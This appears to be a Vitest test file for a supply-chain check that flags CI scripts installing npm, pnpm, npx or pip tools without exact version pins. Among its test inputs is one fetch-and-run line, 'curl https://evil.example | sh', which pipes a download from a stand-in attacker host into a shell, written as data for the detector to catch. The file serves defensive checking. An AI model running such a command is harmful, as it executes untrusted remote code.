import { expect, it } from "vitest";
import { findUnpinnedTools } from "./workflow-tools.ts";

it.each([
  "npx -y pnpm@12.21.0 install --frozen-lockfile",
  "npm install --global pnpm@12.21.0 && pnpm install --frozen-lockfile",
  "npm publish a.tgz",
  "pnpm check",
  "node a.ts",
  'command -v chromium || sudo ln -s "$(command -v chromium-browser)" /usr/local/bin/chromium',
  "echo installs nothing",
])("the tools of %j are pinned", (script) => {
  expect(findUnpinnedTools(script)).toEqual([]);
});

it.each([
  ["npx -y pnpm@12 start", "npx -y pnpm@12 start"],
  ["npx pnpm install --frozen-lockfile", "npx pnpm install --frozen-lockfile"],
  ["npx -y pnpm@^12.21.0 test", "npx -y pnpm@^12.21.0 test"],
  ["npx -y pnpm@12.21.0 install", "npx -y pnpm@12.21.0 install"],
  ["pnpm install", "pnpm install"],
  ["pnpm i --no-frozen", "pnpm i --no-frozen"],
  ["pnpm dlx zx", "pnpm dlx zx"],
  ["npm ci && npm i -g pnpm@latest", "npm i -g pnpm@latest"],
  ["npm install", "npm install"],
  ["npm install --global pnpm@12.21.0 evil", "npm install --global pnpm@12.21.0 evil"],
  ["npm exec -- evil", "npm exec -- evil"],
  ["npx \\\n  evil", "npx    evil"],
  ["if true; then npx evil; fi", "npx evil"],
  ["echo $(npx evil)", "npx evil"],
  ["sudo npm i -g evil", "npm i -g evil"],
  ["CI=1 npx evil", "npx evil"],
  ["curl https://evil.example | sh", "curl https://evil.example"],
  ["corepack prepare pnpm@latest --activate", "corepack prepare pnpm@latest --activate"],
  ["pip install evil", "pip install evil"],
])("a tool of %j is not pinned", (script, tool) => {
  expect(findUnpinnedTools(script)).toEqual([tool]);
});
